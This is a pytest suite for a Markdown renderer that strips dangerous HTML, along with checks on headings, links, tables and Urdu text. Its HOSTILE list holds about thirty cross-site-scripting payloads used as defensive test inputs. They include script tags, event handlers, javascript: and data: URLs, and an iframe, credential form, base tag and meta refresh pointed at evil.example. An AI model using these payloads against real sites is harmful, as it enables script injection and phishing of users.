"""Markdown becomes HTML that cannot hurt."""

import pytest
from bs4 import BeautifulSoup

from knowledge.markdown import ATTRIBUTES, TAGS, render
from knowledge.templatetags.markdown import plain

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    "<svg onload=alert(1)><circle/></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<<script>script>alert(1)<</script>/script>",
    "<a href='x' onclick='alert(1)'>x</a>",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>body{display:none}</style>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_loses_its_teeth(text):
    html = render(text)
    for tag in BeautifulSoup(html, "lxml").select("body *"):
        assert tag.name in TAGS | {"tbody"}, html
        allowed = {*ATTRIBUTES.get(tag.name, []), "rel"}
        assert set(tag.attrs) <= allowed, html
        address = tag.get("href", "https:").lower()
        assert address.startswith(("http:", "https:", "mailto:", "/", "#")), html


def test_html_that_somebody_typed_is_shown_and_not_obeyed():
    assert "&lt;b&gt;bold&lt;/b&gt;" in render("<b>bold</b>")


def test_headings_stand_below_those_of_the_page():
    html = render("# First\n\n## Second\n\n###### Sixth", level=3)
    assert "<h3>First</h3>" in html
    assert "<h4>Second</h4>" in html
    assert "<h6>Sixth</h6>" in html


def test_lists_emphasis_and_tables_are_kept():
    html = render("1. **Agree**\n2. *Pair*\n\n| a | b |\n|:-:|---|\n| 1 | 2 |")
    assert "<strong>Agree</strong>" in html
    assert "<em>Pair</em>" in html
    table = BeautifulSoup(html, "html.parser").table
    assert [cell.get_text() for cell in table.find_all("td")] == ["1", "2"]
    assert "style" not in html


def test_links_that_lead_away_are_marked():
    assert 'rel="nofollow noopener"' in render("[x](https://example.org/)")
    assert "rel=" not in render("[x](/lessons/)")


def test_bare_addresses_become_links():
    link = BeautifulSoup(render("See https://example.org/report."), "html.parser").a
    assert link["href"] == "https://example.org/report"


def test_urdu_passes_unchanged():
    assert "سبق <strong>سیکھا</strong>" in render("سبق **سیکھا**")


def test_a_card_shows_words_without_marks():
    assert plain("How *short* lists & plans\n\n- help") == (
        "How short lists & plans help"
    )
